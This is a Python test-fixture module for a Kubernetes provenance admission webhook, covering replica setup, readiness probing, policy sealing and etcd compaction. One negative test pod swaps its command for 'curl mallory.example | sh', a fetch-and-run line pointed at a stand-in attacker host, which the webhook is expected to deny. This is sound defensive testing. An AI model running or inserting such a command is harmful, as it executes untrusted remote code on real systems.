"""An API server, two webhook replicas behind one address, a run with its pods, signed jobs."""

from __future__ import annotations

import asyncio
import contextlib
import copy
import http.client
import itertools
import json
import signal
from collections.abc import AsyncIterator, Iterator
from contextlib import AsyncExitStack, asynccontextmanager
from dataclasses import dataclass, field
from http import HTTPStatus

from bench.pods import CREATOR, PATH
from bench.rig import Rig, Served, rig, until
from bench.sealed import Object, bare_pod, encode, seal
from bench.signedjobs import Workshop, workshop
from tests.cluster import Cluster
from tests.cluster.ports import free_ports
from tests.load.asking import Ask
from tests.load.relay import relay
from trainseal.api.model import API_VERSION
from trainseal.cluster.api import MERGE_PATCH, path_of
from trainseal.provenance.policies import compile_policy

REPLICAS = 2
PODS, JOBS = "pods.trainseal.dev", ("ticket.trainseal.dev", "trainingjobs.trainseal.dev")
POLICY = path_of(API_VERSION, "provenancepolicies", None, "bench")
#: How late each piece of the slow registry's answers comes; seconds.
SLOW = 0.2


@dataclass(slots=True)
class Ground:
    """Replicas by number; those that are ready are asked, as by a Service."""

    rig: Rig
    shop: Workshop
    pod: Object
    port: int
    slow_registry: str
    replicas: list[Served] = field(default_factory=list)
    ready: set[int] = field(default_factory=set)

    def ports(self) -> list[int]:
        """Of the replicas that are ready."""
        return [r.port for r in self.replicas if r.port in self.ready]

    def start(self, number: int) -> None:
        """Begins a replica, or begins it anew."""
        served = self.rig.webhook(self.slow_registry, f"webhook-{number}")
        self.replicas[number : number + 1] = [served]

    async def until_ready(self) -> None:
        """Waits until all are."""

        async def all_ready() -> bool:
            await self.look()
            return len(self.ports()) == REPLICAS

        await until(all_ready, "all replicas are ready")

    async def look(self) -> None:
        """Asks each replica whether it is ready, as a kubelet does."""
        answers = await asyncio.gather(
            *(asyncio.to_thread(_is_ready, r.health) for r in self.replicas)
        )
        self.ready = {r.port for r, yes in zip(self.replicas, answers, strict=True) if yes}

    async def end(self, number: int, how: signal.Signals) -> None:
        """Kills a replica or tells it to end, waits until it has, and begins it anew."""
        served = self.replicas[number]
        if how is signal.SIGTERM:
            # The chart's preStop: who is told to end is no endpoint any more. Of a death a Service
            # learns by a probe.
            self.ready.discard(served.port)
        served.process.send(how)
        await asyncio.to_thread(served.process.wait)
        self.start(number)
        await self.until_ready()

    def pods(self) -> Iterator[Ask]:
        """Without end: the run's pod, one that nobody sealed, the run's with another command."""
        changed = copy.deepcopy(self.pod)
        changed["spec"]["containers"][0]["command"] = ["sh", "-c", "curl mallory.example | sh"]
        kinds = [(self.pod, True), (bare_pod(), False), (self.pod, True), (changed, False)]
        return itertools.cycle([Ask(PATH, encode(obj), good, CREATOR) for obj, good in kinds])


def _is_ready(port: int) -> bool:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=2)
    with contextlib.closing(connection), contextlib.suppress(OSError, http.client.HTTPException):
        connection.request("GET", "/readyz")
        return connection.getresponse().status == HTTPStatus.OK
    return False


@asynccontextmanager
async def ground(cluster: Cluster) -> AsyncIterator[Ground]:
    """Two replicas that are ready and asked about pods, and know a run."""
    async with AsyncExitStack() as stack:
        made = await stack.enter_async_context(rig(cluster))
        shop = await stack.enter_async_context(workshop(made))
        port, slow = free_ports(2)
        registry = f"127.0.0.1:{slow}"
        behind = int(shop.registry.address.rpartition(":")[2])
        await stack.enter_async_context(relay(lambda: [behind], slow, SLOW))
        allowed: Object = {"registries": {"allow": [f"{registry}/**", "registry.example/**"]}}
        await made.kube.patch(POLICY, {"spec": allowed}, MERGE_PATCH)
        compiled = compile_policy(await made.kube.get(POLICY), {})
        pod = await seal(made.kube, made.seal_key, made.cluster_uid, compiled)
        found = Ground(made, shop, pod, port, registry)
        await stack.enter_async_context(relay(found.ports, port))
        for number in range(REPLICAS):
            found.start(number)
        await found.until_ready()
        await asked(found, PODS)
        yield found


async def asked(ground: Ground, *names: str) -> None:
    """Sends the chart's webhooks of these names to the replicas, and waits until that counts."""
    await ground.rig.ask(Served(ground.replicas[0].process, ground.port), *names)
    probe = encode(bare_pod())
    wanted = PODS in names

    async def is_asked() -> bool:
        _, answer = await ground.rig.client.post(PATH, probe, CREATOR)
        return (b"denied the request" in answer) == wanted

    await until(is_asked, f"{names} are asked")


def compact(cluster: Cluster) -> None:
    """Lets etcd forget all revisions but the last (gRPC gateway, v3/kv); it may have before.

    https://etcd.io/docs/v3.6/dev-guide/api_grpc_gateway/: keys are base64, numbers strings.
    """
    found = _etcd(cluster, "range", {"key": "AA==", "limit": "1"})
    revision = found["header"]["revision"]
    _etcd(cluster, "compaction", {"revision": revision, "physical": True})


def _etcd(cluster: Cluster, what: str, body: dict[str, object]) -> dict[str, dict[str, str]]:
    connection = http.client.HTTPConnection("127.0.0.1", cluster.state.etcd_port, timeout=30)
    with contextlib.closing(connection):
        connection.request("POST", f"/v3/kv/{what}", json.dumps(body))
        answer = connection.getresponse()
        text = answer.read()
    if answer.status != HTTPStatus.OK and b"has been compacted" not in text:
        raise RuntimeError(f"etcd {what}: status {answer.status}: {text.decode()}")
    found: dict[str, dict[str, str]] = json.loads(text)
    return found
